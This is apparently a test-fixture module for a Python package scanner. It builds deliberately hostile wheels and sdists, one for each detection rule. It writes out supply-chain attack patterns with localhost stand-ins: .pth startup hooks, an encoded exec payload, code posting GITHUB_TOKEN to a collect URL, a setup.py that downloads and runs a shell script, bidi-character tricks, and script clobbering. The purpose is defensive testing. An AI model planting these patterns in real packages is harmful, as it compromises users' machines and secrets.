"""Hostile (and honest) wheels and sdists for the scanner, one per rule, built for real.

Every wheel is well formed (a RECORD whose hashes match): only what it holds gives it away, as
with litellm 1.82.8, whose ``litellm_init.pth`` its RECORD listed with a valid hash.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import tarfile
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path

from tests.support.builders import FIXED_DATE_TIME, FIXED_MTIME, build_wheel, dist_name

MARKER_ENV = "SAFEINSTALL_SCAN_PWNED"
BOM = b"\xef\xbb\xbf"
PTH = f"import os; open(os.environ.get('{MARKER_ENV}', '/dev/null'), 'w').write('ran')\n".encode()
SETUPTOOLS_PTH = (
    b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
    b"'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
)
COVERAGE_PTH = (
    b'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START") or '
    b'os.getenv("COVERAGE_PROCESS_CONFIG"):\\n try:\\n  import coverage\\n except:\\n  pass\\n '
    b'else:\\n  coverage.process_startup(slug="pth")\')\n'
)
FINDER = "__editable___my_proj_1_0_finder"
# what setuptools' editable_wheel writes (shortened: the real finder maps more names)
FINDER_CODE = b"""import sys
from importlib.machinery import ModuleSpec, PathFinder
from importlib.util import spec_from_file_location

MAPPING = {"my_proj": "/home/me/src/my_proj"}


class _EditableFinder:
    @classmethod
    def find_spec(cls, fullname, path=None, target=None):
        if fullname in MAPPING:
            return spec_from_file_location(fullname, MAPPING[fullname] + "/__init__.py")
        return None


def install():
    if not any(finder == _EditableFinder for finder in sys.meta_path):
        sys.meta_path.append(_EditableFinder)
"""
PAYLOAD = base64.b64encode(zlib.compress(b"print('pwned')")).decode()
BLOB = base64.b64encode(bytes(range(256)) * 40).decode()  # 13,656 characters, one line

# rule -> module source that a wheel ships as <name>/__init__.py (importable, top level)
CODE: dict[str, bytes] = {
    "code-exec-decoded": (
        f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{PAYLOAD}')))\n".encode()
    ),
    "code-import-time-call": b"import subprocess as sp\nsp.run(['id'])\n",
    "code-startup-write": (
        b"import site\n\ndef hook():\n"
        b"    with open(site.getsitepackages()[0] + '/zz_hook.pth', 'w') as fh:\n"
        b"        fh.write('import os')\n"
    ),
    "code-secrets-sent": (
        b"import os\nfrom urllib.request import urlopen\n\ndef send():\n"
        b"    token = os.environ.get('GITHUB_TOKEN')\n"
        b"    urlopen('https://127.0.0.1/collect', data=token.encode())\n"
    ),
    "code-hidden-chars": (
        "access_level = 'user'\n"
        "if access_level != 'none\u202e \u2066# check if admin\u2069 \u2066':\n"
        "    pass\n"
    ).encode(),
    "code-encoded-blob": f"DATA = '{BLOB}'\n".encode(),
}
# setup.py that downloads and runs a program: build-time code
SETUP_PY = (
    b"import os, urllib.request\nfrom setuptools import setup\n\n"
    b"urllib.request.urlretrieve('https://127.0.0.1/x.sh', '/tmp/x.sh')\n"
    b"os.system('sh /tmp/x.sh')\nsetup(name='evil-build', version='1.0')\n"
)


def wheel(dest: Path, name: str, files: Mapping[str, bytes], **kw: object) -> Path:
    """A well-formed wheel of ``name`` 1.0 holding ``files`` (plus its package module)."""
    module = dist_name(name)
    members = {f"{module}/__init__.py": b"", **files}
    return build_wheel(dest, name, "1.0", files=members, **kw)  # type: ignore[arg-type]


def entry_points(name: str, *commands: str) -> dict[str, bytes]:
    """A .dist-info/entry_points.txt declaring ``commands`` as console scripts."""
    lines = "\n".join(f"{c} = {dist_name(name)}:main" for c in commands)
    text = f"[console_scripts]\n{lines}\n"
    return {f"{dist_name(name)}-1.0.dist-info/entry_points.txt": text.encode()}


BLOCKING_CASES = (
    "startup-pth",
    "startup-pth-bom",
    "startup-pth-long",
    "startup-pth-purelib",
    "startup-pth-data",
    "startup-customize",
    "startup-customize-platlib",
    "clobber-path",
    "clobber-package",
    "clobber-script-python",
    "clobber-script-pip",
    "clobber-script-shell",
    "clobber-script-other",
    "meta-mismatch",
    "meta-url-dependency",
)


# rule -> (wheels to lock together; the last is the one that offends), by name and files
def hostile_wheels(dest: Path) -> dict[str, list[Path]]:
    """One case per start-up, clobbering and metadata rule, each wheel built in ``dest``."""
    data = "evil_pkg-1.0.data"
    victim = wheel(dest / "v", "victim", {"victim/core.py": b"X = 1\n", "common.py": b""})
    tool = wheel(dest / "t", "acme-deploy", entry_points("acme-deploy", "acme-deploy"))
    return {
        "startup-pth": [wheel(dest / "a", "evil-pkg", {"evil_init.pth": PTH})],
        # Python 3.13 drops a UTF-8 BOM before it runs the line; site reads a file to its end
        "startup-pth-bom": [wheel(dest / "a1", "evil-pkg", {"evil_init.pth": BOM + PTH})],
        "startup-pth-long": [wheel(dest / "a2", "evil-pkg", {"x.pth": b"\n" * 2**20 + PTH})],
        "startup-pth-purelib": [wheel(dest / "b", "evil-pkg", {f"{data}/purelib/x.pth": PTH})],
        "startup-pth-data": [
            wheel(dest / "c", "evil-pkg", {f"{data}/data/lib/python3.11/site-packages/x.pth": PTH})
        ],
        "startup-customize": [wheel(dest / "d", "evil-pkg", {"sitecustomize.py": b"import os\n"})],
        "startup-customize-platlib": [
            wheel(dest / "e", "evil-pkg", {f"{data}/platlib/usercustomize.py": b""})
        ],
        "clobber-path": [victim, wheel(dest / "f", "evil-pkg", {"common.py": b"import os\n"})],
        "clobber-package": [victim, wheel(dest / "g", "evil-pkg", {"victim/hook.py": b""})],
        "clobber-script-python": [
            wheel(dest / "h", "evil-pkg", entry_points("evil-pkg", "python3"))
        ],
        "clobber-script-pip": [wheel(dest / "i", "evil-pkg", entry_points("evil-pkg", "pip"))],
        "clobber-script-shell": [
            wheel(dest / "j", "evil-pkg", {f"{data}/scripts/bash": b"#!/bin/sh\n"})
        ],
        "clobber-script-other": [
            tool,
            wheel(dest / "k", "evil-pkg", entry_points("evil-pkg", "acme-deploy")),
        ],
        "meta-mismatch": [
            rewritten(
                wheel(dest / "l", "evil-pkg", {}), "METADATA", b"Name: evil-pkg", b"Name: requests"
            )
        ],
        "meta-url-dependency": [
            wheel(
                dest / "m", "evil-pkg", {}, requires_dist=["helper @ https://127.0.0.1/helper.whl"]
            )
        ],
    }


def rewritten(path: Path, member: str, old: bytes, new: bytes) -> Path:
    """The wheel at ``path`` with ``old`` replaced by ``new`` in its ``.dist-info/<member>``,
    and RECORD's line for it made to match again (so only the content tells)."""
    with zipfile.ZipFile(path) as zf:
        members = {i.filename: zf.read(i) for i in zf.infolist()}
    name = next(m for m in members if m.endswith(f".dist-info/{member}"))
    record = next(m for m in members if m.endswith(".dist-info/RECORD"))
    members[name] = members[name].replace(old, new)
    digest = base64.urlsafe_b64encode(hashlib.sha256(members[name]).digest()).rstrip(b"=")
    lines = [
        f"{name},sha256={digest.decode()},{len(members[name])}"
        if line.startswith(name + ",")
        else line
        for line in members[record].decode().splitlines()
    ]
    members[record] = ("\n".join(lines) + "\n").encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for member_name, data in members.items():
            zf.writestr(zipfile.ZipInfo(member_name, date_time=FIXED_DATE_TIME), data)
    return path


def code_wheel(dest: Path, rule: str) -> Path:
    """A wheel whose package module has the pattern of the code rule ``rule``."""
    return wheel(dest / rule, "evil-pkg", {"evil_pkg/__init__.py": CODE[rule]})


def sdist(dest: Path, name: str, files: Mapping[str, bytes]) -> Path:
    """``<name>-1.0.tar.gz`` with PKG-INFO, a pyproject.toml and ``files`` under its top dir."""
    module = dist_name(name)
    root = f"{module}-1.0"
    members = {
        "PKG-INFO": f"Metadata-Version: 2.2\nName: {name}\nVersion: 1.0\n\n".encode(),
        "pyproject.toml": b'[build-system]\nrequires = ["setuptools"]\n'
        b'build-backend = "setuptools.build_meta"\n',
        **files,
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for member, data in sorted(members.items()):
            info = tarfile.TarInfo(f"{root}/{member}")
            info.size, info.mtime, info.mode = len(data), FIXED_MTIME, 0o644
            archive.addfile(info, io.BytesIO(data))
    out = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=out, mtime=0) as gz:
        gz.write(buffer.getvalue())
    dest.mkdir(parents=True, exist_ok=True)
    path = dest / f"{root}.tar.gz"
    path.write_bytes(out.getvalue())
    return path
